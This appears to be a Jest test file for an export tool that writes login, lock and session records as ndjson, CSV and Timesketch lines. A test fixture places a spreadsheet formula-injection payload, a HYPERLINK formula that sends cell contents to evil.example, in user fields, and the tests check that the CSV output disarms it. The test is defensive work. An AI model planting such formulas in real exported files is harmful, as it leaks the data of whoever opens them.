import { beforeAll, describe, expect, test } from '@jest/globals';

import { INGEST, INGEST_CONTEXT, useApi } from '../support/api.ts';
import { ask } from '../support/companyLog.ts';
import { useDatabase } from '../support/database.ts';

import { parseLines, runExportCommand } from './exporting.ts';
import { parseCsv } from './parseCsv.ts';

const api = useApi(useDatabase());

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const at = (second: string): string => `2026-11-16T09:00:${second}Z`;

const RDP = { hostname: 'WS5', loginId: '0xa1', user: 'CORP\\ana', loginType: 'RDP' };

const EVENTS = [
  {
    login: {
      ...RDP,
      time: at('01.000001'),
      uid: 'S-1-5-21-7',
      loginSuccessful: true,
      srcIp: '1.2.3.4',
      srcPort: 50438,
      sourceId: 'w/1',
    },
  },
  { lock: { time: at('02'), hostname: 'WS5', loginId: '0xa1', user: 'CORP\\ana', sourceId: 'w/2' } },
  { unlock: { time: at('04'), hostname: 'WS5', loginId: '0xa1', user: 'CORP\\ana', sourceId: 'w/3' } },
  { reconnect: { ...RDP, time: at('05'), srcIp: 'fe80::1', sourceId: 'w/4' } },
  { logout: { ...RDP, time: at('06.5'), sourceId: 'w/5' } },
  {
    login: {
      time: at('07'),
      hostname: 'WS6',
      user: FORMULA,
      loginSuccessful: false,
      loginType: 'REMOTE',
      srcIp: '203.0.113.7',
    },
  },
  { lock: { time: at('08'), hostname: 'WS6', loginId: '0xb1', uid: '1000' } },
  { unlock: { time: at('09'), hostname: 'WS6' } },
];

const CONTEXT = [
  {
    disconnect: {
      time: at('04.5'),
      hostname: 'WS5',
      user: FORMULA,
      loginId: '0xa1',
      sourceId: 'w/9',
      srcIp: '1.2.3.4',
    },
  },
  { disconnect: { time: at('04.6'), hostname: 'WS8' } },
  { hostStart: { time: at('10'), hostname: 'WS6', sourceId: 'windows/system/12' } },
  { hostSeen: { time: at('11'), hostname: 'WS6' } },
  { hostStop: { time: at('12'), hostname: 'WS6', sourceId: 'windows/system/13' } },
];

beforeAll(async () => {
  const { ingestSessionEvents } = await ask(api(), INGEST, { events: EVENTS });
  expect(ingestSessionEvents.accepted).toBe(EVENTS.length);
  const { ingestContextEvents } = await ask(api(), INGEST_CONTEXT, { events: CONTEXT });
  expect(ingestContextEvents.accepted).toBe(CONTEXT.length);
});

const run = async (list: string, format: string): Promise<string> => {
  const { code, output, errors } = await runExportCommand([list, '--format', format, '--url', api().url]);
  expect(errors).toMatch(/^\d+ (?:events|sessions|context events) exported\n$/);
  expect(code).toBe(0);
  return output;
};

describe('ndjson', () => {
  test('has a line for each session, with all fields in a fixed order', async () => {
    const sessions = [
      {
        hostname: 'WS5',
        user: 'CORP\\ana',
        uid: 'S-1-5-21-7',
        loginId: '0xa1',
        loginType: 'RDP',
        srcIps: ['1.2.3.4', 'fe80::1'],
        startedAt: '2026-11-16T09:00:01.000001Z',
        startReason: 'LOGIN',
        endedAt: '2026-11-16T09:00:06.500000Z',
        endReason: 'LOGOUT',
        durationSeconds: 5.499999,
        lockedSeconds: 2,
        // Without the half second in which it was disconnected.
        unlockedSeconds: 2.999999,
        lockCount: 1,
        unlockCount: 1,
        reconnectCount: 1,
        endedAfter: '2026-11-16T09:00:06.500000Z',
        disconnectedSeconds: 0.5,
        unknownSeconds: 0,
      },
      {
        hostname: 'WS6',
        user: null,
        uid: '1000',
        loginId: '0xb1',
        loginType: null,
        srcIps: [],
        startedAt: '2026-11-16T09:00:08.000000Z',
        startReason: 'FIRST_SEEN',
        endedAt: '2026-11-16T09:00:10.000000Z',
        endReason: 'HOST_RESTART',
        durationSeconds: 2,
        // Proven up to the last event of the host before its start.
        lockedSeconds: 1,
        unlockedSeconds: 0,
        lockCount: 1,
        unlockCount: 0,
        reconnectCount: 0,
        endedAfter: '2026-11-16T09:00:09.000000Z',
        disconnectedSeconds: 0,
        unknownSeconds: 1,
      },
    ];
    expect(await run('sessions', 'ndjson')).toBe(
      sessions.map((line) => `${JSON.stringify(line)}\n`).join(''),
    );
  });

  test('has context events as an import accepts them', async () => {
    const time = (second: string): string => `2026-11-16T09:00:${second}00000Z`;
    const lines = [
      {
        disconnect: {
          time: time('04.5'),
          hostname: 'WS5',
          user: FORMULA,
          loginId: '0xa1',
          sourceId: 'w/9',
          srcIp: '1.2.3.4',
        },
      },
      { disconnect: { time: time('04.6'), hostname: 'WS8' } },
      { hostStart: { time: time('10.0'), hostname: 'WS6', sourceId: 'windows/system/12' } },
      { hostSeen: { time: time('11.0'), hostname: 'WS6' } },
      { hostStop: { time: time('12.0'), hostname: 'WS6', sourceId: 'windows/system/13' } },
    ];
    // Compared as text, because the order of the fields is part of the format.
    expect(await run('context-events', 'ndjson')).toBe(
      lines.map((line) => `${JSON.stringify(line)}\n`).join(''),
    );
  });
});

describe('csv', () => {
  test('has a header and a row for each event, and disarms formulas', async () => {
    const output = await run('events', 'csv');
    expect(output).toMatch(/^time,action,hostname,user,uid,loginId,.*\r\n/);
    expect(output.endsWith('\r\n')).toBe(true);
    const [header = [], ...rows] = parseCsv(output, ',');
    expect(rows).toHaveLength(EVENTS.length);
    const records = rows.map((row) => Object.fromEntries(row.map((cell, index) => [header[index], cell])));
    expect(records[0]).toEqual({
      time: '2026-11-16T09:00:01.000001Z',
      action: 'LOGIN',
      hostname: 'WS5',
      user: 'CORP\\ana',
      uid: 'S-1-5-21-7',
      loginId: '0xa1',
      sourceId: 'w/1',
      loginType: 'RDP',
      loginSuccessful: 'true',
      linkedLoginId: '',
      srcIp: '1.2.3.4',
      srcPort: '50438',
      destIp: '',
      destPort: '',
      srcHostname: '',
    });
    expect(records[5]).toMatchObject({ action: 'LOGIN', loginSuccessful: 'false', user: `'${FORMULA}` });
  });

  test('has a row for each session and context event', async () => {
    const [header, session] = parseCsv(await run('sessions', 'csv'), ',');
    expect(header?.slice(0, 6)).toEqual(['hostname', 'user', 'uid', 'loginId', 'loginType', 'srcIps']);
    expect(session?.slice(0, 6)).toEqual([
      'WS5',
      'CORP\\ana',
      'S-1-5-21-7',
      '0xa1',
      'RDP',
      '1.2.3.4 fe80::1',
    ]);
    expect(header?.slice(-3)).toEqual(['endedAfter', 'disconnectedSeconds', 'unknownSeconds']);
    expect(session?.slice(-3)).toEqual(['2026-11-16T09:00:06.500000Z', '0.5', '0']);
    const [columns, disconnect, , start] = parseCsv(await run('context-events', 'csv'), ',');
    expect(columns).toEqual(['time', 'kind', 'hostname', 'user', 'loginId', 'sourceId', 'srcIp']);
    expect(disconnect?.slice(1)).toEqual(['DISCONNECT', 'WS5', `'${FORMULA}`, '0xa1', 'w/9', '1.2.3.4']);
    expect(start?.slice(1)).toEqual(['HOST_START', 'WS6', '', '', 'windows/system/12', '']);
  });

  test('of nothing is the header', async () => {
    const words = [
      'context-events',
      '--format',
      'csv',
      '--filter',
      '{"hostname":{"eq":"NONE"}}',
      '--url',
      api().url,
    ];
    expect((await runExportCommand(words)).output).toBe('time,kind,hostname,user,loginId,sourceId,srcIp\r\n');
  });
});

describe('timesketch', () => {
  test('has the fields that Timesketch requires in each line, and the columns of the event', async () => {
    const lines = parseLines(await run('events', 'timesketch'));
    expect(lines[0]).toEqual({
      message: 'CORP\\ana logged in to WS5 (RDP) from 1.2.3.4',
      datetime: '2026-11-16T09:00:01.000001+00:00',
      timestamp: 1_794_819_601_000_001,
      timestamp_desc: 'Login',
      action: 'LOGIN',
      hostname: 'WS5',
      user: 'CORP\\ana',
      uid: 'S-1-5-21-7',
      loginId: '0xa1',
      sourceId: 'w/1',
      loginType: 'RDP',
      loginSuccessful: true,
      srcIp: '1.2.3.4',
      srcPort: 50438,
    });
    expect(lines.map(({ timestamp_desc: kind, message }) => `${kind}: ${message}`)).toEqual([
      'Login: CORP\\ana logged in to WS5 (RDP) from 1.2.3.4',
      'Lock: CORP\\ana locked WS5',
      'Unlock: CORP\\ana unlocked WS5',
      'Reconnect: CORP\\ana reconnected to WS5 (RDP) from fe80::1',
      'Logout: CORP\\ana logged out of WS5 (RDP)',
      `Failed login: ${FORMULA} failed to log in to WS6 (REMOTE) from 203.0.113.7`,
      'Lock: 1000 locked WS6',
      'Unlock: an unknown user unlocked WS6',
    ]);
  });

  test('has a line for the start and one for the end of a session', async () => {
    const lines = parseLines(await run('sessions', 'timesketch'));
    expect(
      lines.map(
        ({ datetime, timestamp_desc: kind, message }) => `${datetime.slice(14, 26)} ${kind}: ${message}`,
      ),
    ).toEqual([
      '00:01.000001 Session start: session of CORP\\ana on WS5 (RDP) from 1.2.3.4, fe80::1 began',
      '00:06.500000 Session end: session of CORP\\ana on WS5 (RDP) from 1.2.3.4, fe80::1 ended by logout',
      '00:08.000000 Session start: session of 1000 on WS6 was first seen',
      '00:10.000000 Session end: session of 1000 on WS6 had ended, because its host restarted',
    ]);
    expect(lines[1]).toMatchObject({
      srcIps: '1.2.3.4 fe80::1',
      durationSeconds: 5.499999,
      endReason: 'LOGOUT',
      endedAfter: '2026-11-16T09:00:06.500000Z',
      disconnectedSeconds: 0.5,
    });
    expect(lines[2]).not.toHaveProperty('srcIps');
  });

  test('has only the start of an open session', async () => {
    const open = { lock: { time: '2026-11-17T09:00:00Z', hostname: 'WS7', loginId: '0xc1' } };
    await ask(api(), INGEST, { events: [open] });
    const lines = parseLines(await run('sessions', 'timesketch'));
    expect(
      lines.filter(({ hostname }) => hostname === 'WS7').map(({ timestamp_desc: kind }) => kind),
    ).toEqual(['Session start']);
  });

  test('has context events', async () => {
    const lines = parseLines(await run('context-events', 'timesketch'));
    expect(lines.map(({ timestamp_desc: kind, message }) => `${kind}: ${message}`)).toEqual([
      `Disconnect: session of ${FORMULA} on WS5 from 1.2.3.4 was disconnected`,
      'Disconnect: session of an unknown user on WS8 was disconnected',
      'Host start: WS6 started',
      'Host seen: WS6 was running',
      'Host stop: WS6 stopped',
    ]);
    expect(lines[0]).toMatchObject({ kind: 'DISCONNECT', user: FORMULA, loginId: '0xa1', srcIp: '1.2.3.4' });
    expect(lines[2]).toEqual({
      message: 'WS6 started',
      datetime: '2026-11-16T09:00:10.000000+00:00',
      timestamp: 1_794_819_610_000_000,
      timestamp_desc: 'Host start',
      kind: 'HOST_START',
      hostname: 'WS6',
      sourceId: 'windows/system/12',
    });
  });
});
